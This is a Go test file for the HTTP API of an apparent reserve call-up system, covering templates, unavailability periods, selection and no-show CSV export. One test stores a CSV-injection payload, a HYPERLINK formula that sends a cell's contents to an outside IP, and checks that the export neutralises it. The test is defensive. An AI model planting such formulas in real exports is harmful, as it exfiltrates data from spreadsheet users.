package web

import (
	"encoding/csv"
	"encoding/json"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/muster-force/muster"
	"github.com/muster-force/muster/internal/sqldb"
	"github.com/muster-force/muster/internal/sqldbtest"
)

// newStaffEnv is a callUpEnv with templates, unavailability and selection
// on the database, and two more tokens of another region: clerk@BRE-PIN
// and commander@BRE.
func newStaffEnv(t *testing.T, db *sqldb.DB) *callUpEnv {
	t.Helper()
	e := newCallUpEnv(t, db)
	for _, k := range []string{"clerk@BRE-PIN", "commander@BRE"} {
		role, unit, _ := strings.Cut(k, "@")
		secret, err := db.CreateToken(sqldbtest.System(), &muster.Token{Name: k, Role: muster.Role(role), Unit: unit})
		if err != nil {
			t.Fatalf("token %s: %v", k, err)
		}
		e.tokens[k] = secret
	}
	return e
}

// templateBody is a valid POST /api/v1/callup-templates body for a
// call-up of GOM-MOZ.
func templateBody(name string, change ...func(map[string]any)) map[string]any {
	fields := callUpBody(set("unit", "GOM-MOZ"), set("drill", false))
	delete(fields, "report_by")
	for _, f := range change {
		f(fields)
	}
	return map[string]any{"name": name, "report_within": "6h", "callup": fields}
}

func TestAPICallUpTemplates(t *testing.T) {
	sqldbtest.Each(t, func(t *testing.T, db *sqldb.DB) {
		e := newStaffEnv(t, db)
		base := "/api/v1/callup-templates"
		e.run([]apiScenario{
			{name: "clerk", method: "POST", path: base, who: "clerk@TD", body: templateBody("flood"), status: 403, code: muster.EFORBIDDEN},
			{name: "other region", method: "POST", path: base, who: "commander@BRE", body: templateBody("flood"), status: 403, code: muster.EFORBIDDEN},
			{name: "bad duration", method: "POST", path: base, who: "commander@GOM-MOZ", body: map[string]any{"name": "flood", "report_within": "6 hours", "callup": map[string]any{}},
				status: 400, code: muster.EINVALID, field: "report_within"},
			{name: "report_by in a template", method: "POST", path: base, who: "commander@GOM-MOZ", body: templateBody("flood", set("report_by", "2026-12-01T08:00:00Z")),
				status: 400, code: muster.EINVALID, field: "callup.report_by"},
			{name: "bad kind", method: "POST", path: base, who: "commander@GOM-MOZ", body: templateBody("flood", set("kind", "party")),
				status: 400, code: muster.EINVALID, field: "callup.kind"},
			{name: "unknown call-up field", method: "POST", path: base, who: "commander@GOM-MOZ", body: templateBody("flood", set("colour", "red")),
				status: 400, code: muster.EINVALID, field: "callup.colour"},
			{name: "bad name", method: "POST", path: base, who: "commander@GOM-MOZ", body: templateBody("a/b"), status: 400, code: muster.EINVALID, field: "name"},
			{name: "create", method: "POST", path: base, who: "commander@GOM-MOZ", body: templateBody("flood"), status: 201,
				check: func(t *testing.T, rec *httptest.ResponseRecorder) {
					var tpl map[string]any
					json.Unmarshal(rec.Body.Bytes(), &tpl)
					if tpl["name"] != "flood" || tpl["unit"] != "GOM-MOZ" || tpl["report_within"] != "6h0m0s" || rec.Header().Get("Location") != base+"/flood" {
						t.Errorf("created %s", rec.Body)
					}
				}},
			{name: "taken", method: "POST", path: base, who: "admin@TD", body: templateBody("flood"), status: 409, code: muster.ECONFLICT},
			{name: "other region sees none", method: "GET", path: base, who: "commander@BRE", status: 200,
				check: func(t *testing.T, rec *httptest.ResponseRecorder) {
					if strings.TrimSpace(rec.Body.String()) != `{"templates":[]}` {
						t.Errorf("list %s", rec.Body)
					}
				}},
			{name: "other region reads", method: "GET", path: base + "/flood", who: "commander@BRE", status: 403, code: muster.EFORBIDDEN},
			{name: "other region uses", method: "POST", path: base + "/flood/callups", who: "commander@BRE", status: 403, code: muster.EFORBIDDEN},
			{name: "unknown override", method: "POST", path: base + "/flood/callups", who: "commander@GOM-MOZ", body: map[string]any{"colour": "red"},
				status: 400, code: muster.EINVALID, field: "colour"},
			{name: "viewer uses", method: "POST", path: base + "/flood/callups", who: "viewer@TD", status: 403, code: muster.EFORBIDDEN},
			{name: "call up, report-by from the template", method: "POST", path: base + "/flood/callups", who: "commander@GOM-MOZ", status: 201,
				check: func(t *testing.T, rec *httptest.ResponseRecorder) {
					var c muster.CallUp
					json.Unmarshal(rec.Body.Bytes(), &c)
					if c.Targeted != 1 || c.Unit != "GOM-MOZ" || c.Drill || !c.ReportBy.Equal(sqldbtest.Now.Add(6*time.Hour)) || c.Title != "Exercise Winter Oak" {
						t.Errorf("call-up %s", rec.Body)
					}
				}},
			{name: "call up with overrides", method: "POST", path: base + "/flood/callups", who: "commander@GOM-MOZ",
				body: map[string]any{"drill": true, "message": "Drill only.", "report_by": "2026-11-23T15:00:00+03:00"}, status: 201,
				check: func(t *testing.T, rec *httptest.ResponseRecorder) {
					var c muster.CallUp
					json.Unmarshal(rec.Body.Bytes(), &c)
					if !c.Drill || c.Message != "Drill only." || !c.ReportBy.Equal(time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)) {
						t.Errorf("call-up %s", rec.Body)
					}
				}},
			{name: "move out of scope", method: "PUT", path: base + "/flood", who: "commander@GOM-MOZ",
				body: map[string]any{"report_within": "2h", "callup": templateBody("x", set("unit", "BRE"))["callup"]}, status: 403, code: muster.EFORBIDDEN},
			{name: "replace", method: "PUT", path: base + "/flood", who: "commander@GOM-MOZ",
				body: map[string]any{"report_within": "90m", "callup": templateBody("x", set("title", "Flood 2"))["callup"]}, status: 200,
				check: func(t *testing.T, rec *httptest.ResponseRecorder) {
					if !strings.Contains(rec.Body.String(), `"report_within":"1h30m0s"`) || !strings.Contains(rec.Body.String(), `"title":"Flood 2"`) {
						t.Errorf("replaced %s", rec.Body)
					}
				}},
			{name: "delete by another region", method: "DELETE", path: base + "/flood", who: "commander@BRE", status: 403, code: muster.EFORBIDDEN},
			{name: "delete", method: "DELETE", path: base + "/flood", who: "commander@GOM-MOZ", status: 204},
			{name: "gone", method: "GET", path: base + "/flood", who: "commander@GOM-MOZ", status: 404, code: muster.ENOTFOUND},
		})
	})
}

func TestAPIUnavailability(t *testing.T) {
	sqldbtest.Each(t, func(t *testing.T, db *sqldb.DB) {
		e := newStaffEnv(t, db)
		path := "/api/v1/members/G1/unavailability"
		period := map[string]any{"from": "2026-11-23T00:00:00+03:00", "to": "2026-11-30T00:00:00+03:00", "reason": "abroad"}
		var id string
		e.run([]apiScenario{
			{name: "clerk of another district", method: "POST", path: path, who: "clerk@BRE-PIN", body: period, status: 403, code: muster.EFORBIDDEN},
			{name: "viewer", method: "POST", path: path, who: "viewer@TD", body: period, status: 403, code: muster.EFORBIDDEN},
			{name: "bad time", method: "POST", path: path, who: "clerk@TD", body: map[string]any{"from": "2026-11-23", "to": "2026-11-30T00:00:00Z", "reason": "x"},
				status: 400, code: muster.EINVALID, field: "from"},
			{name: "backwards", method: "POST", path: path, who: "clerk@TD", body: map[string]any{"from": "2026-11-30T00:00:00Z", "to": "2026-11-23T00:00:00Z", "reason": "x"},
				status: 400, code: muster.EINVALID, field: "to"},
			{name: "no reason", method: "POST", path: path, who: "clerk@TD", body: map[string]any{"from": "2026-11-23T00:00:00Z", "to": "2026-11-30T00:00:00Z"},
				status: 400, code: muster.EINVALID, field: "reason"},
			{name: "unknown member", method: "POST", path: "/api/v1/members/X9/unavailability", who: "clerk@TD", body: period, status: 404, code: muster.ENOTFOUND},
			{name: "add", method: "POST", path: path, who: "clerk@TD", body: period, status: 201,
				check: func(t *testing.T, rec *httptest.ResponseRecorder) {
					var u muster.Unavailability
					json.Unmarshal(rec.Body.Bytes(), &u)
					id = strconv.FormatInt(u.ID, 10)
					if u.ID == 0 || !u.To.Equal(time.Date(2026, 11, 29, 21, 0, 0, 0, time.UTC)) || u.Reason != "abroad" {
						t.Errorf("added %s", rec.Body)
					}
				}},
			{name: "list by another district", method: "GET", path: path, who: "clerk@BRE-PIN", status: 403, code: muster.EFORBIDDEN},
			{name: "list", method: "GET", path: path, who: "viewer@TD", status: 200,
				check: func(t *testing.T, rec *httptest.ResponseRecorder) {
					if !strings.Contains(rec.Body.String(), `"reason":"abroad"`) {
						t.Errorf("list %s", rec.Body)
					}
				}},
		})
		available := callUpBody(set("filter", map[string]any{"available": true}))
		if rec := e.api("POST", "/api/v1/callups", "admin@TD", available); rec.Code != 201 || !strings.Contains(rec.Body.String(), `"targeted":1,`) {
			t.Errorf("available call-up: %d %s", rec.Code, rec.Body) // B1 only: G1 is away
		}
		e.run([]apiScenario{
			{name: "delete by another district", method: "DELETE", path: path + "/" + id, who: "clerk@BRE-PIN", status: 403, code: muster.EFORBIDDEN},
			{name: "delete", method: "DELETE", path: path + "/" + id, who: "clerk@TD", status: 204},
			{name: "deleted", method: "DELETE", path: path + "/" + id, who: "clerk@TD", status: 404, code: muster.ENOTFOUND},
		})
		if rec := e.api("POST", "/api/v1/callups", "admin@TD", available); rec.Code != 201 || !strings.Contains(rec.Body.String(), `"targeted":2,`) {
			t.Errorf("available call-up after the delete: %d %s", rec.Code, rec.Body)
		}
	})
}

func TestAPISelectionAndNoShows(t *testing.T) {
	sqldbtest.Each(t, func(t *testing.T, db *sqldb.DB) {
		e := newStaffEnv(t, db)
		id := e.createCallUp(callUpBody(set("drill", false), set("channels", []string{"sms", "email", "paper"}), set("filter", map[string]any{"status": []string{"active", "reserve"}})))
		// G2's reason is a spreadsheet formula: the CSV must keep it text.
		formula := `=HYPERLINK("http://192.0.2.9/?"&A2,"open")`
		g2, _ := json.Marshal(map[string]string{"answer": "no", "reason": formula})
		for sn, body := range map[string]string{"G1": `{"answer":"yes"}`, "G2": string(g2)} {
			if rec := e.answerRequest("POST", e.responsePath(id, sn), "192.0.2.1", jsonType, body); rec.Code != 200 {
				t.Fatalf("answer %s: %d %s", sn, rec.Code, rec.Body)
			}
		}
		path := "/api/v1/callups/" + strconv.FormatInt(id, 10)
		e.run([]apiScenario{
			{name: "clerk", method: "POST", path: path + "/selection", who: "clerk@TD", body: `{"service_numbers":["G1"]}`, status: 403, code: muster.EFORBIDDEN},
			{name: "other region", method: "POST", path: path + "/selection", who: "commander@BRE", body: `{"service_numbers":["G1"]}`, status: 403, code: muster.EFORBIDDEN},
			{name: "empty", method: "POST", path: path + "/selection", who: "commander@TD", body: `{"service_numbers":[]}`, status: 400, code: muster.EINVALID, field: "service_numbers"},
			{name: "not yes", method: "POST", path: path + "/selection", who: "commander@TD", body: `{"service_numbers":["G1","G2","B1"]}`, status: 422, code: muster.EUNPROCESSABLE,
				check: func(t *testing.T, rec *httptest.ResponseRecorder) {
					body := rec.Body.String()
					if !strings.Contains(body, "G2: answered no") || !strings.Contains(body, "B1: has not answered") || strings.Contains(body, "G1:") {
						t.Errorf("422 %s", body)
					}
				}},
			{name: "nothing changed", method: "GET", path: path + "/selection", who: "viewer@TD", status: 200,
				check: func(t *testing.T, rec *httptest.ResponseRecorder) {
					if !strings.Contains(rec.Body.String(), `"total_selected":0,`) || !strings.Contains(rec.Body.String(), `"selected":false`) {
						t.Errorf("selection %s", rec.Body)
					}
				}},
			{name: "select", method: "POST", path: path + "/selection", who: "commander@TD", body: `{"service_numbers":["G1"]}`, status: 200,
				check: func(t *testing.T, rec *httptest.ResponseRecorder) {
					// G1 has a phone but no e-mail address; paper gets no follow-up.
					if want := `{"callup":` + strconv.FormatInt(id, 10) + `,"selected":1,"standby":0,"deliveries":1,"total_selected":1,"total_standby":0,"yes_or_late":1}`; strings.TrimSpace(rec.Body.String()) != want {
						t.Errorf("selection %s, want %s", rec.Body, want)
					}
				}},
			{name: "candidates", method: "GET", path: path + "/selection?q=iva&limit=1", who: "viewer@TD", status: 200,
				check: func(t *testing.T, rec *httptest.ResponseRecorder) {
					if !strings.Contains(rec.Body.String(), `"service_number":"G1"`) || !strings.Contains(rec.Body.String(), `"selected":true`) || !strings.Contains(rec.Body.String(), `"next_after":""`) {
						t.Errorf("candidates %s", rec.Body)
					}
				}},
			{name: "no-shows too early", method: "GET", path: path + "/noshows", who: "viewer@TD", status: 409, code: muster.ECONFLICT},
			{name: "no-shows bad format", method: "GET", path: path + "/noshows?format=xml", who: "viewer@TD", status: 400, code: muster.EINVALID, field: "format"},
		})

		later := func() time.Time { return sqldbtest.Now.Add(25 * time.Hour) }
		e.s.Now, db.Now = later, later
		if rec := e.api("POST", path+"/checkins", "clerk@TD", `{"service_number":"B1"}`); rec.Code != 200 {
			t.Fatalf("check-in: %d %s", rec.Code, rec.Body)
		}
		e.run([]apiScenario{
			{name: "no-shows of another region", method: "GET", path: path + "/noshows", who: "commander@BRE", status: 403, code: muster.EFORBIDDEN},
			{name: "no-shows", method: "GET", path: path + "/noshows", who: "viewer@TD", status: 200,
				check: func(t *testing.T, rec *httptest.ResponseRecorder) {
					var list struct{ NoShows []muster.NoShow }
					if err := json.Unmarshal(rec.Body.Bytes(), &list); err != nil || len(list.NoShows) != 2 {
						t.Fatalf("no-shows %s, %v", rec.Body, err)
					}
					if g1, g2 := list.NoShows[0], list.NoShows[1]; g1.ServiceNumber != "G1" || !g1.Selected || g1.Answer != "yes" || g1.Phone != "+375291234567" || g2.ServiceNumber != "G2" || g2.Answer != "no" || g2.Reason != formula {
						t.Errorf("no-shows %s", rec.Body)
					}
				}},
		})
		for _, req := range []struct{ query, accept string }{{"?format=csv", ""}, {"", "text/html, text/csv;q=0.9"}} {
			r := httptest.NewRequest("GET", path+"/noshows"+req.query, nil)
			r.Header.Set("Authorization", "Bearer "+e.tokens["viewer@TD"])
			if req.accept != "" {
				r.Header.Set("Accept", req.accept)
			}
			rec := httptest.NewRecorder()
			e.h.ServeHTTP(rec, r)
			rows, err := csv.NewReader(rec.Body).ReadAll()
			if rec.Code != 200 || err != nil || rec.Header().Get("Content-Type") != "text/csv; charset=utf-8" || len(rows) != 3 ||
				strings.Join(rows[0], ",") != strings.Join(noShowHeader, ",") || rows[1][0] != "G1" || rows[1][3] != "+375291234567" || rows[1][8] != "true" || rows[2][4] != "no" || rows[2][6] != "'"+formula {
				t.Errorf("CSV %q %q: %d %v %q", req.query, req.accept, rec.Code, err, rows)
			}
		}
	})
}
